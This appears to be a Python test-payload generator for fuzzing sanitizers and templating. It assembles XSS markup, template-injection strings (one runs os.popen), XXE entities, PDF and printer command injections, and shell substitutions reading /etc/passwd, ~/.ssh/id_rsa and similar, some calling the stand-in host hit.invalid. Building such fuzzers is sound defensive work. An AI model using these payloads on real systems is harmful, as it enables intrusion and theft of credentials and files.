"""Texts that try to run on a page, or to be commands of a file, a template or a printer."""

from collections.abc import Iterator
from itertools import islice, product

RAN = "hit.invalid"  # where a payload that runs goes, and what it sets
COMPUTED = "3971821"  # 1993 * 1993 - 228: stands on a page only where a template computed it
SUM = "1993*1993-228"
SCRIPTS = (
    f"window.ran=1;fetch('https://{RAN}/')",
    f"top.ran=1;new Image().src='https://{RAN}/'",
    f"document.title='ran';location='https://{RAN}/'",
    "window.ran=1;alert(1)",
    "globalThis['r'+'an']=1",
)
MARKUP = (
    "<script>{}</script>",
    "<ScRiPt/x>{}</sCrIpT >",
    "<script src='https://hit.invalid/a.js'>{}</script>",
    '<img src=x onerror="{}">',
    "<img/src/onerror={}//>",
    '<svg onload="{}">',
    "<svg><script>{}</script></svg>",
    '<svg><animate onbegin="{}" attributeName=x dur=1s>',
    '<svg><style><img src=x onerror="{}"></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{}">',
    '<body onload="{}">',
    '<details open ontoggle="{}">x</details>',
    '<input autofocus onfocus="{}">',
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}" autofocus>x</a>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<form action="javascript:{}"><button>x</button></form>',
    "<base href='https://hit.invalid/'><script src=a.js>{}</script>",
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    "<link rel=stylesheet href='https://hit.invalid/a.css' onerror=\"{}\">",
    "<style>@import 'https://hit.invalid/a.css';</style>{}",
    '<video><source onerror="{}"></video>',
    '<marquee onstart="{}">x</marquee>',
    "<template><script>{}</script></template><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<![CDATA[><script>{}</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<textarea></textarea><script>{}</script>",
    "<title></title><script>{}</script>",
    '<x contenteditable onblur="{}" autofocus tabindex=1>',
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "＜script＞{}＜/script＞",
    "<!--label:chip--><script>{}</script>",
)
TEMPLATES = (
    "{{{{ {} }}}}",
    "{{% print({}) %}}",
    "{{{{ cycler.__init__.__globals__.os.popen('echo '~({})).read() }}}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "%({})s",
    "{{{}}}",
    "[[${{{}}}]]",
    "{{{{= {} }}}}",
)
LEFT = ("", '"', "'", '">', "'>", "</dd>", "</title>", "</style>", "</script>", "-->", "`", '"}]}')
RIGHT = ("", "//", "<!--", "'", '"')


def payloads(count: int) -> Iterator[str]:
    """That many, each once; those at the start are of all kinds."""
    whole = [template.format(SUM) for template in TEMPLATES]
    whole += [markup.replace("{}", script) for script, markup in product(SCRIPTS, MARKUP)]
    shaped = (f"{left}{text}{right}" for (left, right), text in product(product(LEFT, RIGHT), whole))
    return islice(dict.fromkeys(shaped), count)


FORMS = (
    *(
        "{}",
        "@{}",
        '"{}"',
        '<img src="{}"/>',
        "<para><img src={} width=1 height=1></para>",
        "<font face='{}'>x</font>",
    ),
    *(
        '<!DOCTYPE a [<!ENTITY x SYSTEM "{}">]>&x;',
        '<xi:include href="{}"/>',
        '<svg><image href="{}"/></svg>',
    ),
    *(
        "<script src='{}'></script>",
        "url({})",
        "javascript:open('{}')",
        "%PDF-1.4 /F ({}) /S/URI",
        "\\input{{{}}}",
    ),
    *(") Tj ET /X Do ({}", ">>endobj 9 0 obj<</OpenAction<</S/Launch/F({})>>>>", "BI /W 1 ID {} EI Q q"),
    *(
        "^XZ^XA^FD{}^FS^XZ",
        "~DGR:A,9,9,{}",
        "^XA^IDR:*.*^IMR:{}^XZ",
        'DOWNLOAD "{}",9,',
        'CLS PRINT 9 "{}" EOP',
    ),
    *("$(cat {})", "`cat {}`", "{{{{ ''.__class__ }}}}{}"),
)
TARGETS = (
    *("/etc/passwd", "file:///etc/passwd", "../../../../etc/shadow", "/proc/self/environ", "/dev/stdin"),
    *("http://127.0.0.1:9/x.png", "https://example.com/x.ttf", "ftp://127.0.0.1/x", "ldap://127.0.0.1/x"),
    *(
        "gopher://127.0.0.1:1/_x",
        "\\\\127.0.0.1\\share\\x",
        "C:\\Windows\\win.ini",
        "~/.ssh/id_rsa",
        "..%2f..%2fx",
    ),
    *(
        "data:text/html;base64,QQ==",
        "php://filter/resource=x",
        "jar:file:///x!/y",
        "expect://id",
        "NUL",
        "|id",
    ),
)
COMMANDS = tuple(form.format(target) for form in FORMS for target in TARGETS)
UNPRINTABLE = (
    "A\r\nPRINT 9,9\r\n",
    "A\x00B",
    "\x1b@",
    "\x10\x04",
    "A\u202eB",
    "\ud800",
    "\u0301",
    "\U000e0041",
)
